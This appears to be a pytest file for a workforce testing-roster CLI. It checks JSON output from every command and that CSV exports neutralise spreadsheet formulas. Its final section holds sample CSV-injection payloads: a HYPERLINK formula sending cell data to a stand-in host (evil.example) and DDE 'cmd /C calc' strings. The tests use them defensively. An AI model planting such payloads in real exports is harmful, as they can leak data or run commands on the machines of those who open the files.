"""Every command takes ``--json`` and then prints exactly one JSON document on stdout (the
README's promise), ``--json`` is ``--format json`` for the listing commands, and a CSV a
command prints is as formula-safe as the web's exports."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import typer
from sqlalchemy import Engine, update

from testrota.cli.main import app
from testrota.db.models import Person
from tests.test_import_cli import BASE, person, write_roster

NOW = "2022-05-10T15:00:00+08:00"  # Tuesday of 2022-W19
WEEK = "2022-W19"
PASSWORD = "a long enough password 42"
ENV = {"TESTROTA_NOW": NOW, "TESTROTA_SECRET_KEY": "k" * 48}

# Commands that run until they are stopped, whose stdout is not a result: they print no JSON.
NO_JSON = {
    "serve": "serves the web app until stopped; its output is the log",
    "worker": "runs the periodic jobs until SIGTERM; its output is the log",
    "demo": "seeds sample data and serves the web app until stopped",
}


def _commands() -> Iterator[tuple[str, Any]]:
    """Every command a user can run: ``(path, click command)``; a group that lists when run
    alone (``roles``, ``alerts``) is a command too."""

    def walk(command: Any, path: list[str]) -> Iterator[tuple[str, Any]]:
        subcommands = getattr(command, "commands", None)
        if subcommands is None:
            yield " ".join(path), command
            return
        if path and command.invoke_without_command:
            yield " ".join(path), command
        for name, sub in subcommands.items():
            yield from walk(sub, [*path, name])

    yield from walk(typer.main.get_command(app), [])


def _options(command: Any) -> set[str]:
    return {o for p in command.params for o in getattr(p, "opts", [])}


def _results_sheet(tmp_path: Path) -> Path:
    path = tmp_path / "lab.csv"
    path.write_text(
        "工号,采样时间,检测结果\n0002,2022-05-10 09:00,阴性\n9999,2022-05-10 09:00,阴性\n",
        encoding="utf-8",
    )
    return path


def _invocations(tmp_path: Path, cli: Any) -> Iterator[tuple[str, list[str], str | None]]:
    """``(command, arguments, stdin)`` in an order where each finds what it needs; arguments
    that depend on an earlier result are worked out when their turn comes."""
    driver = person("0006", "赵敏", "运输部", "司机")
    roster = write_roster(tmp_path / "roster.xlsx", [*BASE, driver])
    yield "init", [], None
    yield "import", [str(roster)], None
    yield "people", [], None
    yield "roles", [], None
    yield "roles map", ["天车工", "none", "--reason", "cranes are indoors"], None
    yield "roles unmap", ["天车工", "--reason", "back to the rules"], None
    yield "roles reclassify", [], None
    yield "override", ["0004", "gate_guard", "--reason", "checked"], None
    yield "plan", ["--week", WEEK], None
    yield "schedule", ["--week", WEEK], None
    yield "sms-capacity", ["--week", WEEK], None
    yield "reminders", [], None
    yield "booster", [], None
    yield "flag", [], None
    yield "checkin", ["0001", "--site", "NORTH"], None
    yield "tube open", ["T1", "--site", "NORTH", "--ratio", "5"], None
    yield "checkin", ["0006", "--tube", "T1"], None
    yield "tube close", ["T1"], None
    yield "tube pack", ["--site", "NORTH", "--count", "1"], None
    yield "tubes", [], None
    yield "pools", [], None
    yield "badges", ["--department", "运输部", "--output", str(tmp_path / "badges.pdf")], None
    yield "status", ["0001"], None
    yield "results import", [str(_results_sheet(tmp_path))], None
    yield "results add", ["0004", "--result", "positive", "--at", "2022-05-10 09:30"], None
    yield "alerts", [], None
    alerts = json.loads(cli("alerts", "--format", "json", env=ENV).stdout)
    yield "alerts close", [str(alerts[0]["id"])], None
    yield "missed", ["--week", WEEK], None
    yield "compliance", ["--week", WEEK], None
    booked = json.loads(cli("schedule", "--person", "0006", "--format", "json", env=ENV).stdout)
    yield "excuse", ["0006", "--date", booked[-1]["starts_at"][:10], "--reason", "leave"], None
    yield (
        "exempt add",
        ["0006", "--from", "2022-05-20", "--to", "2022-05-21", "--reason", "x"],
        None,
    )
    yield "exempt list", [], None
    exempt = json.loads(cli("exempt", "list", "--format", "json", env=ENV).stdout)
    leave = [e["id"] for e in exempt if e["employee_no"] == "0006"]
    yield "exempt end", [str(leave[0]), "--on", "2022-05-21"], None
    yield "units", [], None
    yield "report daily", ["--date", "2022-05-10"], None
    yield "report confirm", ["--date", "2022-05-09", "--unit", "运输部", "--note", "ok"], None
    yield "mode set", ["static", "--unit", "运输部", "--from", "2022-05-16", "--reason", "x"], None
    yield "rollup rebuild", [], None
    yield "dispatch", ["--once"], None
    yield "outbox", [], None
    yield "retry", ["--all-failed"], None
    yield "users add", ["hr1", "--role", "hr", "--password-stdin"], PASSWORD + "\n"
    yield "users list", [], None
    yield "users set", ["hr1", "--language", "en"], None
    yield "users set-password", ["hr1", "--password-stdin"], PASSWORD + "!\n"
    yield "users sessions", [], None
    yield "users sign-out", ["hr1"], None
    yield "users disable", ["hr1"], None
    yield "users enable", ["hr1"], None
    yield "doctor", [], None
    yield "i18n export", [], None
    yield "export-person", ["0003"], None
    yield "erase-person", ["0005", "--reason", "left the company", "--yes", "--deactivate"], None


def test_every_command_takes_json_and_prints_one_document(
    cli: Any, tmp_path: Path, engine: Engine
) -> None:
    commands = dict(_commands())
    assert set(NO_JSON) <= set(commands)
    without = sorted(
        path
        for path, command in commands.items()
        if path not in NO_JSON and "--json" not in _options(command)
    )
    assert without == []

    ran = set()
    for path, args, stdin in _invocations(tmp_path, cli):
        result = cli(*path.split(), *args, "--json", env=ENV, input=stdin)
        # doctor's exit code 1 means a check failed; it still prints its report
        assert result.exit_code in ((0, 1) if path == "doctor" else (0,)), (path, result.output)
        try:
            json.loads(result.stdout)  # exactly one document: trailing data would raise
        except json.JSONDecodeError as exc:
            raise AssertionError(
                f"{path}: stdout is not one JSON document: {exc}\n{result.stdout[:2000]}"
            ) from None
        ran.add(path)
    assert ran == set(commands) - set(NO_JSON), "every command with --json was run"


def test_json_is_format_json_and_two_formats_are_refused(cli: Any, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "roster.xlsx", BASE)
    assert cli("import", str(roster), "--json").exit_code == 0
    listings = [
        "people",
        "roles",
        "schedule",
        "missed",
        "compliance",
        "alerts",
        "outbox",
        "users list",
        "users sessions",
    ]
    for path in listings:
        by_json = cli(*path.split(), "--json", env=ENV)
        by_format = cli(*path.split(), "--format", "json", env=ENV)
        both = cli(*path.split(), "--format", "json", "--json", env=ENV)
        assert by_json.exit_code == by_format.exit_code == both.exit_code == 0, (
            path,
            by_json.output,
            by_format.output,
            both.output,
        )
        assert (
            json.loads(by_json.stdout) == json.loads(by_format.stdout) == json.loads(both.stdout)
        ), path
        clash = cli(*path.split(), "--format", "csv", "--json", env=ENV)
        assert clash.exit_code == 2, (path, clash.output)
        assert clash.stdout == ""
        (line,) = clash.stderr.strip().splitlines()
        assert line == "Error: --json and --format csv ask for two formats: give one of them"
        unknown = cli(*path.split(), "--format", "yaml", env=ENV)
        assert unknown.exit_code == 2 and "unknown format 'yaml'" in unknown.stderr, path


# ---------------------------------------------------------------- formula-safe CSV

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "grid_unit": "+1+cmd|' /C calc'!A0",
    "role": "-2+3+cmd|' /C calc'!A0",
}


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _dangerous(cell: str) -> bool:
    from testrota.compliance.export import is_dangerous

    return is_dangerous(cell)


def test_csv_from_every_listing_is_formula_safe_and_phones_stay_numbers(
    cli: Any, tmp_path: Path, engine: Engine
) -> None:
    roster = write_roster(tmp_path / "roster.xlsx", BASE)
    assert cli("import", str(roster), "--json").exit_code == 0
    # What a hostile roster (or a hand edit) could leave in the names HR keeps.
    with engine.begin() as conn:
        conn.execute(update(Person).where(Person.employee_no == "0001").values(**HOSTILE))
    assert cli("plan", "--week", WEEK, "--json", env=ENV).exit_code == 0
    seen: dict[str, list[dict[str, str]]] = {}
    for path in (
        "people",
        "roles",
        "schedule",
        "outbox",
        "users list",
        "missed",
        "compliance",
        "alerts",
    ):
        result = cli(*path.split(), "--format", "csv", env=ENV)
        assert result.exit_code == 0, (path, result.output)
        rows = _csv(result.stdout)
        for row in rows:
            for column, cell in row.items():
                assert not _dangerous(cell), (path, column, cell)
        seen[path] = rows

    (hostile,) = [r for r in seen["people"] if r["employee_no"] == "0001"]
    for column, value in HOSTILE.items():
        assert hostile[column] == "'" + value  # shown as typed, never run
    # E.164 numbers are numbers to Excel, not formulas: left as they are, as the web does.
    assert {r["phone"] for r in seen["people"]} >= {"+8613812345601", "+8613812345602"}
    schedule = [r for r in seen["schedule"] if r["employee_no"] == "0001"]
    assert schedule and all(r["name"] == "'" + HOSTILE["name"] for r in schedule)
    assert any(r["role"] == "'" + HOSTILE["role"] for r in seen["roles"])
